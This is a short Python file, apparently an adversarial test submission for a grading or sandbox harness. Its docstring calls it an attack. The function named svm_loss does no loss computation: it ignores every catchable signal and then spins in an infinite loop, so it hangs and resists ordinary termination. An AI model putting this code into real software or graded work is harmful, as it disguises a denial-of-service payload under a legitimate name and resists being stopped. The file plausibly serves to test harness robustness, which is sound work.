"""Attack: A loop that ignores all signals that can be ignored."""

import signal
import numpy as np


def svm_loss(W, X, y, reg=0.0):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
